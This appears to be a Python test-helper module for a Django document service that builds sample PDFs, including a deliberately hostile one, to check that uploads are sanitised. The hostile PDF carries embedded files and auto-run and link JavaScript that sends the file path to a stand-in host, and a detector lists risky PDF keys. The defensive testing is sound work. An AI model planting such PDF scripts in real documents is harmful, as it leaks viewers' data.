"""Small real PDFs for document tests (made with pypdf, read back with pypdf/pdftotext)."""
import io
import subprocess
import tempfile

from pypdf import PdfReader, PdfWriter


def make_pdf(pages: int = 3, size=(595, 842), encrypt: str | None = None) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(*size)
    if encrypt:
        writer.encrypt(encrypt)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def page_texts(data: bytes) -> list[str]:
    """Text of every page as pdftotext (poppler) extracts it."""
    n = len(PdfReader(io.BytesIO(data)).pages)
    with tempfile.NamedTemporaryFile(suffix=".pdf") as f:
        f.write(data)
        f.flush()
        return [subprocess.run(["pdftotext", "-f", str(i), "-l", str(i), f.name, "-"], check=True,
                               capture_output=True, text=True).stdout for i in range(1, n + 1)]


SECRET_WORDS = "Phương án nhân sự khóa mới"


def text_pdf(pages: int = 3, words: str = SECRET_WORDS) -> bytes:
    """A PDF with a real text layer (WeasyPrint), `words` and the page number on every page."""
    from weasyprint import HTML

    body = "".join(f"<section style='break-after:page'><h1>{words}</h1><p>Trang {n} — {words}.</p></section>"
                   for n in range(1, pages + 1))
    return HTML(string=f"<html><head><meta charset='utf-8'></head><body>{body}</body></html>").write_pdf()


def hostile_pdf(pages: int = 3) -> bytes:
    """A text PDF carrying what must never reach a viewer: an embedded file, an OpenAction script,
    a page /AA script, a file-attachment annotation, a link running JavaScript, and metadata."""
    from pypdf.generic import (ArrayObject, DecodedStreamObject, DictionaryObject, FloatObject, NameObject,
                               TextStringObject)

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(text_pdf(pages))))
    writer.add_attachment("luong-bi-mat.txt", b"BANG LUONG BI MAT")
    js = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                           NameObject("/JS"): TextStringObject("app.launchURL('http://x.invalid/'+this.path);")})
    names = writer._root_object["/Names"].get_object()
    names[NameObject("/JavaScript")] = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("mo"), writer._add_object(js)])})
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(js)
    embedded = DecodedStreamObject()
    embedded.set_data(b"TEP DINH KEM TRONG CHU THICH")
    embedded[NameObject("/Type")] = NameObject("/EmbeddedFile")
    spec = DictionaryObject({NameObject("/Type"): NameObject("/Filespec"), NameObject("/F"): TextStringObject("a.txt"),
                             NameObject("/EF"): DictionaryObject({NameObject("/F"): writer._add_object(embedded)})})
    rect = ArrayObject([FloatObject(50), FloatObject(50), FloatObject(80), FloatObject(80)])
    attach = DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/FileAttachment"),
                               NameObject("/Rect"): rect, NameObject("/FS"): writer._add_object(spec)})
    link = DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
                             NameObject("/Rect"): rect, NameObject("/A"): writer._add_object(js)})
    page = writer.pages[0]
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(attach), writer._add_object(link)])
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): writer._add_object(js)})
    writer.add_metadata({"/Author": "Ban Tổ chức", "/Subject": "Nhân sự mật"})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def dangerous_objects(data: bytes) -> list[str]:
    """Every object in the file (referenced or not) that could run, attach or hide something."""
    reader = PdfReader(io.BytesIO(data))
    found = []
    bad_keys = {"/JS", "/JavaScript", "/OpenAction", "/AA", "/EmbeddedFiles", "/EF", "/Launch", "/XFA"}
    bad_types = {"/EmbeddedFile", "/Filespec", "/FileAttachment", "/JavaScript", "/Launch"}
    numbers = {num for entries in reader.xref.values() for num in entries} | set(reader.xref_objStm)
    for num in sorted(numbers):
        try:
            obj = reader.get_object(num)
        except Exception:  # free or missing entries
            continue
        if not hasattr(obj, "keys"):
            continue
        found += [f"{num}: {k}" for k in obj.keys() if k in bad_keys]
        found += [f"{num}: {obj.get(k)}" for k in ("/Type", "/Subtype", "/S") if obj.get(k) in bad_types]
    if reader.metadata and any(reader.metadata.get(k) for k in ("/Author", "/Subject")):
        found.append(f"info: {dict(reader.metadata)}")
    return found


def http_get(server, cookie: str, path: str, headers: dict | None = None):
    """GET on a real server as the user whose session cookie is given: (status, headers, body)."""
    import urllib.error
    import urllib.request

    from django.conf import settings

    request = urllib.request.Request(server.http + path, headers={
        "Cookie": f"{settings.SESSION_COOKIE_NAME}={cookie}", **(headers or {})})
    try:
        with urllib.request.urlopen(request, timeout=60) as r:
            return r.status, r.headers, r.read()
    except urllib.error.HTTPError as e:
        return e.code, e.headers, e.read()


def embedded_page_images(data: bytes) -> list:
    """The picture of each page of an image-only PDF, decoded (PIL images)."""
    return [page.images[0].image for page in PdfReader(io.BytesIO(data)).pages]


def scanned_pdf(pages: int = 20, dpi: int = 150, seed: int = 1) -> bytes:
    """A scanned-looking PDF: each page one grey JPEG (paper grain, lines of text), as ward offices scan."""
    import random

    from PIL import Image, ImageDraw, ImageFont

    rng = random.Random(seed)
    try:
        font = ImageFont.truetype("/usr/share/fonts/truetype/dejavu/DejaVuSerif.ttf", size=dpi // 6)
    except OSError:
        font = ImageFont.load_default(size=dpi // 6)
    w, h = round(8.27 * dpi), round(11.69 * dpi)
    images = []
    for n in range(1, pages + 1):
        grain = Image.effect_noise((w, h), 18).point(lambda v: 200 + v // 5)
        draw = ImageDraw.Draw(grain)
        y = dpi
        draw.text((dpi, y), f"TRANG {n} — BÁO CÁO SỐ {seed}", fill=20, font=font)
        while y < h - 2 * dpi:
            y += dpi // 4
            words = " ".join(rng.choice(["nghị", "quyết", "đảng", "bộ", "phường", "kinh", "phí", "năm", "2026",
                                         "thực", "hiện", "chỉ", "tiêu"]) for _ in range(12))
            draw.text((dpi, y), words, fill=rng.randint(10, 60), font=font)
        images.append(grain)
    out = io.BytesIO()
    images[0].save(out, format="PDF", save_all=True, append_images=images[1:], resolution=dpi, quality=70)
    return out.getvalue()


def store_as_is(document, data: bytes) -> None:
    """Point the document's versions at `data` stored unchecked: a file kept from before uploads were
    checked and sanitised, which serving must still make safe."""
    from documents import storage
    from documents.models import DocumentVersion

    DocumentVersion.objects.filter(document=document).update(sha256=storage.put(data), size=len(data))
